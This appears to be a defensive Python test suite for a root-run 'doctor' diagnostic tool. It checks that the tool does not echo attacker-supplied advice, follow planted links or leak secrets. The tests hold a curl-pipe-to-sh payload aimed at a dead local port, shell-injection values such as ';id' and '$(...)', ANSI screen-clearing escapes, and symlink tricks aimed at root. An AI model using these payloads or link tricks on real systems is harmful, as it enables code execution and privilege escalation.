#!/usr/bin/env python3
"""mintmark doctor is run by root, and what it looks at is others': what they
put there is not printed as advice, nor does it lead root to other files."""
import hashlib
import http.server
import json
import os
import socket
import socketserver
import struct
import subprocess
import threading
import time

import doctor
from doctor_files import NOBODY, as_root
from flow import cli, main

EVIL = "curl -s http://127.0.0.1:1/x | sh"
CLEAR = "\x1b[2J\x1b[1;32mAll is well\n"


class Stranger(http.server.BaseHTTPRequestHandler):
    """Says what it likes at /health/ready."""

    def do_GET(self):
        self.server.seen.append(self.path)
        body = json.dumps(self.server.says).encode()
        self.send_response(409 if self.path.startswith(self.server.refuses)
                           else self.server.status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Local(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True

    def get_request(self):
        request, _ = super().get_request()
        return request, ("local", 0)


class Hostile(doctor.Doctor):
    def serve(self, s, says, status=503):
        s.seen, s.says, s.status, s.refuses = [], says, status, "no path"
        threading.Thread(target=s.serve_forever, daemon=True).start()
        self.addCleanup(s.server_close)
        self.addCleanup(s.shutdown)
        return s

    def stranger(self, **checks):
        """One who answers where agent.conf says that the agent listens."""
        s = self.serve(http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stranger),
                       {"status": "failing", "checks": checks})
        said = self.conf.read_text().splitlines()
        said = [line for line in said if not line.startswith("listen")]
        self.conf.write_text("\n".join(
            [*said, f"listen = 127.0.0.1:{s.server_port}", ""]))
        return s

    def says(self):
        """What people see."""
        return cli("doctor", "--data", self.i.data, "--agent-config", self.conf,
                   env={"PATH": doctor.WITH_TOOL}).stdout

    def test_A34_who_answers_for_the_agent(self):
        self.begin()
        does = {"status": "failing", "do": EVIL}
        s = self.stranger(**{CLEAR: does, "uses": does})
        self.wrong(("door", "1 checks are failing which", "^systemctl restart"),
                   ("door.uses", "the agent says: uses", "restart mintmark-agent$"))
        text = self.says()
        self.assertIn("WRONG  door.uses", text)
        for never in ("curl", "\x1b", CLEAR):
            self.assertNotIn(never, text)
        s.says = ["nothing of the kind"]
        self.wrong(("door", "answers 503, and not as an agent", "^ss -tlnp"))
        # and where there is no agent, nobody is asked in its place
        self.a.stop()
        self.a.state.with_suffix(".state.sock").unlink(missing_ok=True)
        s.seen.clear()
        self.wrong(("agent", "no mintmark-agent is to be found", "^systemctl restart"))
        self.assertEqual(s.seen, [])

    # ---- names, addresses ----

    def advice(self):
        """{check: [next]}, of what root would paste"""
        out = {}
        for f in self.ask()[1]:
            if f["next"]:
                self.assertNotRegex(f["next"], r"curl -s|\x1b|;id", f)
                out.setdefault(f["check"], []).append(f)
        return out

    def test_A34_the_issuer_in_a_state_file(self):
        """As the agent's user can write it, with its digest."""
        self.begin()
        self.a.stop()
        b = bytearray(self.a.state.read_bytes())
        was = self.i.name.encode()
        size, at = struct.unpack_from("<I", b, 12)[0], b.index(was)
        for iss in (f"http://127.0.0.1:1/;{EVIL};#", "-K/tmp/x", "http://h/';id'"):
            text = iss.encode() + b"\0"
            b[at:at + len(text)] = text
            b[24:56] = hashlib.sha256(bytes(b[0:24] + b[128:size])).digest()
            self.a.state.write_bytes(b)
            f, = self.advice()["issuer"]
            self.assertEqual(f["detail"], f"{iss} is no address of an issuer")
            self.assertRegex(f["next"], "^systemctl restart mintmark-agent ")

    def test_A34_who_answers_for_the_mint(self):
        self.begin()
        self.i.stop()
        key = next((self.i.data / "keys/active").iterdir()).stem
        says = {"issuer": f"http://127.0.0.1:1/;{EVIL};#", "version": CLEAR,
                "keys": [{"kid": f"x;{EVIL}", "state": "next", "live_tokens": 7},
                         {"kid": key, "state": CLEAR}],
                "missing": ["--x;id", f"$({EVIL})"], "former": [key],
                "checks": {CLEAR: {"do": EVIL}},
                "feed": {"silent": True}, "agents": [{"id": EVIL}]}
        self.i.socket.unlink(missing_ok=True)
        self.serve(Local(str(self.i.socket), Stranger), says, 200)
        found = self.advice()
        self.assertRegex(found["public"][0]["next"], "^systemctl restart mintmarkd ")
        self.assertEqual(len(found["keys.missing"]), 3)
        for f in found["keys.missing"]:
            self.assertRegex(f["next"], "key retire --data '.*' --force -- KID ")
        self.assertNotIn("\x1b", self.says())

    def test_A34_what_the_key_commands_show(self):
        """They are run by root, too, and ask who answers at admin.sock."""
        self.begin()
        self.i.stop()
        kid = next((self.i.data / "keys/active").iterdir()).stem
        waits = next((self.i.data / "keys/next").iterdir())
        waits.rename(self.i.data / "keys/retiring" / waits.name)
        said = {"kid": waits.stem, "state": "active", "live_tokens": 1,
                "needed_until": CLEAR + "2099-01-01T00:00:00Z"}
        says = {"keys": [said], "missing": [CLEAR], "detail": CLEAR}
        self.i.socket.unlink(missing_ok=True)
        s = self.serve(Local(str(self.i.socket), Stranger), says, 200)
        for command in ("list",), ("report", kid), ("retire",):
            p = cli("key", *command, "--data", self.i.data)
            self.assertNotIn("\x1b", p.stdout + p.stderr)
        self.assertIn("which is needed until ?[2J", p.stdout)
        s.refuses = "/v1/tokens"
        p = cli("key", "compromise", kid, "--yes", "--data", self.i.data)
        self.assertIn("its tokens cannot be listed now (?[2J", p.stderr)
        self.assertNotIn("\x1b", p.stdout + p.stderr)

    def test_A34_names_of_key_files(self):
        self.begin()
        folder = self.i.data / "keys/next"
        odd = folder / f"x';{EVIL.replace('/', '')};'\x1b[2J.pem"
        odd.write_text("x")
        odd.chmod(0o644)
        f, = self.advice()["keys.mode"]
        self.assertEqual(f["next"].split("    ")[0], f"ls -lab '{folder}'")
        self.assertNotIn("\x1b", self.says())

    @as_root
    def test_F26_settings_that_others_wrote(self):
        self.begin()
        flags = "doctor", "--data", self.i.data, "--agent-config", self.conf
        good = self.conf.read_text()
        self.conf.write_text(f"token_file = /x';{EVIL};'\n{good}")
        for uid, mode in ((NOBODY, 0o600), (0, 0o666)):
            os.chown(self.conf, uid, uid)
            self.conf.chmod(mode)
            p = cli(*flags)
            self.assertEqual((p.returncode, p.stdout), (2, ""))
            self.assertRegex(p.stderr, f"{self.conf} belongs to uid {NOBODY}: look|"
                             f"others can write to {self.conf}: look at what")
        self.conf.write_text(good)
        self.conf.chmod(0o644)
        cli(*flags, check=0)

    # ---- what stands in a file's place ----

    def places(self):
        """Files that others put there, and that root reads."""
        return (self.a.state.with_name(self.a.state.name + ".pending"),
                self.i.data / "keys/.in-use", self.i.data / "keys/next/x.pem",
                self.a.token_file)

    def test_F26_pipes_where_root_reads(self):
        self.begin()
        self.i.stop()
        self.a.stop()
        (self.i.data / "mintmark.db").rename(self.folder / "aside")
        for path in self.places():
            path.unlink(missing_ok=True)
            os.mkfifo(path, 0o600)
        begun = time.monotonic()
        found = self.ask()[1]
        self.assertLess(time.monotonic() - begun, 12)
        self.assertNotIn("no answer within", json.dumps(found))
        f, = (f for f in found if f["check"] == "token")
        self.assertEqual(f["detail"], f"{self.a.token_file} is no file")

    def test_F26_links_where_root_reads(self):
        """Another's file shows nowhere.  A token may be a link: it is looked at
        as the agent does, and not shown."""
        self.begin()
        self.i.stop()
        self.a.stop()
        (self.i.data / "mintmark.db").rename(self.folder / "aside")
        other = self.folder / "other"
        other.write_text("SECRET")
        for link in (os.symlink, os.link):
            for path in self.places():
                path.unlink(missing_ok=True)
                link(other, path)
            found = {f["check"]: f for f in self.ask()[1]}
            self.assertNotIn("SECRET", json.dumps(found))
            self.assertNotIn("uses", found)
            self.assertIn("is refused (malformed)", found["token"]["detail"])
            self.assertIn("is no file of its own", found["state.file"]["detail"])

    def test_F26_a_store_that_leads_elsewhere(self):
        self.begin()
        self.i.stop()
        db = self.i.data / "mintmark.db"
        db.rename(self.folder / "aside")
        (self.folder / "other").write_text("SECRET " * 1000)
        for link in (os.symlink, os.link):
            link(self.folder / "other", db)
            self.assertNotIn("store.whole", {f["check"] for f in self.ask()[1]})
            db.unlink()

    # ---- links, and what root is told to change ----

    def paste_all(self, *flags):
        """What root would paste of chmod and chown, pasted; the findings."""
        found = self.ask(*flags)[1]
        for f in found:
            for command in (f["next"] or "").partition("  ")[0].split("; "):
                if command.startswith(("chmod ", "chown ")):
                    subprocess.run(command, shell=True, check=True)
        return {f["check"]: f for f in reversed(found)}  # the first of each

    def victim(self, *folders):
        """Somebody else's, root's, and how it is now."""
        top = self.folder / "victim"
        for path in (top, *(top / name for name in folders)):
            path.mkdir()
            path.chmod(0o755)
            (path / "passwd.pem").write_text("root:x:0:0\n")
            (path / "passwd.pem").chmod(0o644)
        return top

    @staticmethod
    def all_of(top):
        return {p: (s.st_mode, s.st_uid, s.st_gid)
                for p in (top, *top.rglob("*")) for s in [p.lstat()]}

    def mint_of_nobody(self):
        self.folder.chmod(0o711)
        self.begin(mint_flags=("--user", str(NOBODY)))
        self.i.stop()

    @as_root
    def test_F26_links_in_a_data_folder(self):
        self.mint_of_nobody()
        keys = self.i.data / "keys"
        keys.rename(self.folder / "aside")
        top = self.victim("next", "active", "retiring")
        before = self.all_of(top)

        def pasted(check):
            found = self.paste_all()
            self.assertEqual(self.all_of(top), before)
            return found[check]

        keys.symlink_to(top)
        f = pasted("folder.file")
        self.assertIn("/keys is a link into what is uid 0's, and the mint is uid 65534",
                      f["detail"])
        self.assertNotIn("passwd", json.dumps(self.ask()[1]))
        keys.unlink()
        keys.mkdir(0o700)
        os.chown(keys, NOBODY, NOBODY)
        (keys / "next").symlink_to(top / "next")
        f = pasted("folder.file")
        self.assertIn("/keys/next is no folder of its own", f["detail"])
        self.assertNotIn("passwd", json.dumps(self.ask()[1]))
        (keys / "next").unlink()
        (keys / "next").mkdir(0o700)
        os.chown(keys / "next", NOBODY, NOBODY)
        other = top / "passwd.pem"
        for link in (os.symlink, os.link):
            for name in ("mintmark.db-shm", "mintmark.db.lock", "admin.sock"):
                path = self.i.data / name
                path.unlink(missing_ok=True)
                link(other, path)
                f = pasted("folder.file")
                self.assertIn(f"{path} is no ", f["detail"])
                path.unlink()
        os.link(other, keys / "next/AAAAAAAAAAA.pem")
        f = pasted("keys.mode")
        self.assertRegex(f["next"], "^ls -lab '.*/keys/next' ")

    @as_root
    def test_F26_a_lock_that_leads_to_another_daemons(self):
        """Whose lock it is, is nobody's proof of who the mint is."""
        self.mint_of_nobody()
        lock = self.i.data / "mintmark.db.lock"
        lock.unlink(missing_ok=True)
        lock.symlink_to(self.a.state.with_name(self.a.state.name + ".lock"))
        found = self.paste_all()
        self.assertNotIn("folder.owner", found)
        self.assertIn("folder.file", found)

    @as_root
    def test_F26_a_data_folder_behind_a_link(self):
        """The administrator's own link: what is advised mends it."""
        self.mint_of_nobody()
        os.chown(self.i.data, 0, 0)
        self.i.data.rename(self.folder / "disk")
        self.i.data.symlink_to(self.folder / "disk")
        (self.folder / "disk/keys").rename(self.folder / "ring")
        (self.folder / "disk/keys").symlink_to(self.folder / "ring")
        found = self.paste_all()
        self.assertEqual(found["folder.owner"]["next"],
                         f"chown -h {NOBODY}:{NOBODY} '{self.i.data}/.'")
        found = {f["check"]: f["state"] for f in self.ask()[1]}
        self.assertNotIn("folder.owner", found)
        self.assertNotIn("folder.file", found)
        self.assertEqual(found["keys"], "ok")

    def test_F26_an_agents_socket_and_token_that_are_links(self):
        self.begin()
        other = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.addCleanup(other.close)
        other.bind(str(self.folder / "other.sock"))
        (self.folder / "other.sock").chmod(0o600)
        sock = self.a.state.with_suffix(".state.sock")
        sock.unlink()
        sock.symlink_to(self.folder / "other.sock")
        token = self.folder / "other.token"
        self.a.token_file.rename(token)
        self.a.token_file.symlink_to(token)
        token.chmod(0o644)
        found = self.paste_all()
        self.assertEqual((self.folder / "other.sock").stat().st_mode & 0o777, 0o600)
        self.assertEqual(token.stat().st_mode & 0o777, 0o644)
        self.assertIn("is a link, and no agent makes one", found["agent.file"]["detail"])
        self.assertIn("others can read", found["token.mode"]["detail"])


if __name__ == "__main__":
    main(at_once=2)
